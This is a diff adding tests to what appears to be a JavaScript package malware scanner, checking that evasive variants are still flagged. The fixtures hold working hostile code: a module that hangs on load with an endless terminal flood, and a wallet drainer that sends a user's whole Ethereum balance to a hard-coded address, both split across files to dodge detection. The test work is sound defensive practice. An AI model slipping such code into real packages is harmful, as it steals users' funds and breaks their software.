@@ -2035,3 +2035,37 @@ export async function connect() {
     expect(r.evidence.map((f) => f.rule)).not.toContain('js.wallet-drain');
   });
 });
+
+describe('two samples rewritten as an attacker would', () => {
+  it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'ansi-hues', version: '3.1.0', main: 'lib/index.js' }),
+      'lib/index.js': `const paint = require('./paint');
+module.exports = { red: (s) => paint(31, s) };`,
+      'lib/paint.js': `const cfg = { marks: ['\\u0334', '\\u0335'], text: ['P', 'E', 'A', 'C', 'E', ' '] };
+function emit(i) { process.stdout.write(cfg.text.map((c) => c + cfg.marks[i % 2]).join('')); }
+let k = 0;
+do { emit(k++); } while (1);
+module.exports = (code, s) => '\\u001b[' + code + 'm' + s + '\\u001b[39m';`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.hangs-on-load')?.file).toBe('lib/paint.js');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('the drainer with the recipient in a settings object and the transaction sent by a helper in another file', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'lib/tx.js': `module.exports = (provider, from, amount, cfg) =>
+  provider.request({ method: 'eth_sendTransaction', params: [{ from, to: cfg.routes.main, value: amount }] });`,
+      'index.js': `const send = require('./lib/tx');
+const settings = { routes: { main: '0x8ba1f109551bD432803012645Ac136ddd64DBA72' } };
+async function sync() {
+  const eth = window.ethereum;
+  const [me] = await eth.request({ method: 'eth_requestAccounts' });
+  const funds = await eth.request({ method: 'eth_getBalance', params: [me, 'latest'] });
+  return send(eth, me, funds, settings);
+}
+module.exports = { sync };`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.wallet-drain')?.file).toBe('lib/tx.js');
+  });
+});
